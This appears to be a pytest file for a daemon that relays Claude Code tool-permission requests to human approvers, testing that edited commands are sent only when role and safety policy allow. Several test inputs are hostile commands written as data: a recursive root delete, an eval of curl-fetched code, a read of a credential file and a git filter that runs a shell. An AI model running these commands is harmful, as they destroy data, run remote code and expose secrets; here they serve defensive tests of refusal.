"""Edit then allow (``daemon.edits``, ``Daemon.answer_request(edit=…)``): the corrected call
goes to the waiting hook as ``updatedInput`` only when the policy allows it.

The real ``Daemon``; the waiting hook is a bound datagram socket (``test_replies.HookSocket``),
the terminal ``fakes.sessionio.FakeSessions``.  What the hook twins make of an
``updatedInput`` reply is tested in tests/hook/test_permission_reply.py."""

from __future__ import annotations

import os

import orjson
import pytest
from daemon.test_replies import RID, HookSocket
from fakes.sessionio import FakeSessions

from aipager.daemon import edits
from aipager.daemon.app import Daemon
from aipager.port.backend import Already, ByHook, Gone, Refused, Who
from aipager.hookpy import reply as hook_reply

S = "claude-jim"
OWNER = Who("@owner", 1, "owner")
ADMIN = Who("@alice", 42, "admin")
#: the built-in role "user" may not run Bash at all
USER = Who("@bob", 43, "user")


@pytest.fixture
def hook():
    sock = HookSocket()
    yield sock
    sock.close()


@pytest.fixture
def daemon():
    sessions = FakeSessions()
    sessions.live.add(S)
    d = Daemon(dict(os.environ), session_io=sessions)
    d.core.feed({"hook_event_name": "UserPromptSubmit", "session": S, "prompt": "go",
                 "cwd": "/srv/app"})
    yield d
    d.journal.close()


def _ask(daemon: Daemon, reply_addr: str, tool: str = "Bash", tool_input: dict | None = None) -> str:
    daemon.core.feed({"hook_event_name": "PermissionRequest", "session": S, "tool_name": tool,
                      "tool_use_id": "toolu_1", "cwd": "/srv/app",
                      "tool_input": tool_input or {"command": "npm test", "description": "Tests",
                                                   "timeout": 60000},
                      "aipager_request_id": RID, "aipager_reply_addr": reply_addr})
    return daemon.core.registry.get(S).requests[0].key


def _audit(daemon: Daemon) -> list[dict]:
    with open(daemon.audit.path, "rb") as fh:
        return [orjson.loads(line) for line in fh]


async def test_the_corrected_command_goes_to_the_hook_with_the_rest_of_the_call(daemon, hook):
    key = _ask(daemon, hook.path)

    assert await daemon.answer_request(S, key, "allow", ADMIN, edit="npm test -- --ci") == ByHook()

    [datagram] = hook.received()
    decision = orjson.loads(datagram)["decision"]
    assert decision == {"behavior": "allow", "updatedInput": {
        "command": "npm test -- --ci", "description": "Tests", "timeout": 60000}}
    # what the hook prints for it: Claude Code runs the corrected call
    printed = orjson.loads(hook_reply.decision_output(datagram, RID))
    assert printed["hookSpecificOutput"]["decision"]["updatedInput"]["command"] == "npm test -- --ci"
    [record] = _audit(daemon)
    assert record["action"] == "permission_answer" and record["who"] == "@alice"
    assert record["edited_input"]["command"] == "npm test -- --ci"
    assert await daemon.answer_request(S, key, "allow", ADMIN, edit="ls") == Gone()


@pytest.mark.parametrize(("tool", "tool_input", "edit"), [
    ("Bash", None, "sudo rm -rf /var/lib"),           # the floor's privilege escalation
    ("Bash", None, "eval \"$(curl -s x.example)\""),  # the floor's eval
    ("Read", {"file_path": "/srv/app/README"}, "~/.claude.json"),  # the floor's no-access
])
async def test_an_edit_the_policy_denies_is_refused_and_nothing_is_sent(daemon, hook, tool,
                                                                       tool_input, edit):
    key = _ask(daemon, hook.path, tool, tool_input)

    outcome = await daemon.answer_request(S, key, "allow", ADMIN, edit=edit)

    assert isinstance(outcome, Refused) and "safety policy" in outcome.reason
    assert hook.received() == []
    req = daemon.core.registry.get(S).requests[0]
    assert req.answered == "" and req.key == key  # still open: another answer may come
    [record] = _audit(daemon)
    assert record["action"] == "edit_refused" and record["who_id"] == 42


async def test_an_edit_is_authorship_the_editors_role_decides_it_too(daemon, hook):
    """A role that may approve but not run Bash may not write the command it runs."""
    key = _ask(daemon, hook.path)
    outcome = await daemon.answer_request(S, key, "allow", USER, edit="npm test -- --ci")
    assert isinstance(outcome, Refused) and "Bash is denied" in outcome.reason
    assert hook.received() == []


async def test_a_plain_allow_after_a_refused_edit_still_works(daemon, hook):
    key = _ask(daemon, hook.path)
    assert isinstance(await daemon.answer_request(S, key, "allow", ADMIN, edit="sudo ls"),
                      Refused)
    assert await daemon.answer_request(S, key, "allow", ADMIN) == ByHook()
    assert orjson.loads(hook.received()[0])["decision"] == {"behavior": "allow"}


async def test_no_hook_waits_so_an_edit_is_refused_and_no_key_is_pressed(daemon, hook):
    key = _ask(daemon, "")  # the hook timed out: its dialog is in the terminal
    outcome = await daemon.answer_request(S, key, "allow", OWNER, edit="npm test -- --ci")
    assert isinstance(outcome, Refused) and "terminal" in outcome.reason
    assert daemon.session_io.keys == []
    assert daemon.core.registry.get(S).requests[0].answered == ""


async def test_a_hook_gone_between_check_and_send_runs_nothing_unedited(daemon, tmp_path):
    key = _ask(daemon, str(tmp_path / "gone.sock"))  # nobody waits on the address any more
    outcome = await daemon.answer_request(S, key, "allow", OWNER, edit="npm test -- --ci")
    assert isinstance(outcome, Refused) and "no longer waits" in outcome.reason
    assert daemon.session_io.keys == []
    assert daemon.core.registry.get(S).requests[0].answered == ""


async def test_bad_edits(daemon, hook):
    key = _ask(daemon, hook.path)
    for edit, why in (("   ", "empty"), ("x" * (edits.TEXT_MAX + 1), "longer")):
        outcome = await daemon.answer_request(S, key, "allow", ADMIN, edit=edit)
        assert isinstance(outcome, Refused) and why in outcome.reason
    with pytest.raises(ValueError, match="only an allow"):
        await daemon.answer_request(S, key, "deny", ADMIN, edit="ls")
    assert hook.received() == []
    # answered once by someone else: the edit does nothing
    assert await daemon.answer_request(S, key, "deny", OWNER) == ByHook()
    assert await daemon.answer_request(S, key, "allow", ADMIN, edit="ls") == Gone()


def test_what_a_request_keeps_for_an_edit():
    assert edits.keep("Bash", {"command": "ls"}) == {"command": "ls"}
    assert edits.keep("Bash", {"command": 3}) == {}
    assert edits.keep("Task", {"prompt": "x"}) == {}
    assert edits.keep("Write", {"file_path": "/a", "content": "x" * (edits.KEPT_MAX + 1)}) == {}
    with pytest.raises(ValueError, match="path or URL"):
        edits.edited("Read", {"file_path": "/a"}, "/b\n/c")
    assert edits.edited("Bash", {"command": "ls"}, "ls -la\necho done") == \
        {"command": "ls -la\necho done"}


async def test_an_owner_may_edit_into_what_a_member_may_not(daemon, hook):
    """The owner's role is exempt, and a task the owner started has no snapshot rules
    stricter than its own: the decision is the policy's, not a blanket refusal."""
    key = _ask(daemon, hook.path)
    assert await daemon.answer_request(S, key, "allow", OWNER, edit="sudo systemctl status") \
        == ByHook()
    assert orjson.loads(hook.received()[0])["decision"]["updatedInput"]["command"] == \
        "sudo systemctl status"


async def test_already_answered_by_keys(daemon, hook):
    key = _ask(daemon, "")
    daemon.core.registry.get(S).requests[0].answered = "allow"
    assert await daemon.answer_request(S, key, "allow", OWNER, edit="ls") == Already()


async def test_a_user_cannot_allow_what_the_floor_would_refuse_them(daemon, hook):
    """The member's own task asks to write the project's git config (a file the floor keeps
    from every task but the owner's): their ✅ is refused and audited; the owner's goes."""
    key = _ask(daemon, hook.path, "Write", {"file_path": "/srv/app/.git/config",
                                            "content": "[filter \"x\"]\n\tclean = sh\n"})
    got = await daemon.answer_request(S, key, "allow", USER)
    assert isinstance(got, Refused) and "no write" in got.reason
    assert hook.received() == []
    assert [r["action"] for r in _audit(daemon)] == ["approval_refused"]
    assert await daemon.answer_request(S, key, "allow", OWNER) == ByHook()


async def test_a_large_write_is_still_judged_by_its_path(daemon, hook):
    """Too large to keep for an edit, the call keeps its path: an admin's ✅ on the
    owner's task writing .gitattributes is refused all the same."""
    key = _ask(daemon, hook.path, "Write", {"file_path": "/srv/app/.gitattributes",
                                            "content": "x" * (edits.KEPT_MAX + 10)})
    req = daemon.core.registry.get(S).requests[0]
    assert req.tool_input == {} and req.subject == {"file_path": "/srv/app/.gitattributes"}
    got = await daemon.answer_request(S, key, "allow", ADMIN)
    assert isinstance(got, Refused) and hook.received() == []


async def test_the_card_and_the_verdict_name_the_edited_call_and_its_editor(daemon, hook):
    """Claude Code's PermissionRequest names no tool_use_id: the call's running row is found by
    its requester, tool and summary, and names the corrected path and who corrected it; the
    request's close carries what ran (the chat's and the page's verdict line)."""
    from aipager.port.outputs import RequestClosed

    asked = {"file_path": "/srv/app/asked.txt", "content": "hi\n"}
    daemon.core.feed({"hook_event_name": "PreToolUse", "session": S, "tool_name": "Write",
                      "tool_use_id": "toolu_w", "tool_input": asked})
    daemon.core.feed({"hook_event_name": "PermissionRequest", "session": S, "tool_name": "Write",
                      "cwd": "/srv/app", "tool_input": asked, "aipager_request_id": RID,
                      "aipager_reply_addr": hook.path})
    key = daemon.core.registry.get(S).requests[0].key

    assert await daemon.answer_request(S, key, "allow", ADMIN,
                                       edit="/srv/app/edited.txt") == ByHook()

    [row] = daemon.core.registry.get(S).rows
    assert row.summary == "Write: /srv/app/edited.txt · ✏️ @alice"
    [closed] = [o for o in daemon.recorder.outputs if isinstance(o, RequestClosed)]
    assert (closed.answer, closed.who, closed.edited) == ("allow", "@alice",
                                                           "/srv/app/edited.txt")
    # the hook gave up before it read the tap: the dialog in the terminal asks the call as
    # Claude asked it, and so does its row
    daemon.core.feed({"hook_event_name": "permission_reply_timeout", "session": S,
                      "aipager_request_id": RID})
    assert row.summary == "Write: /srv/app/asked.txt"
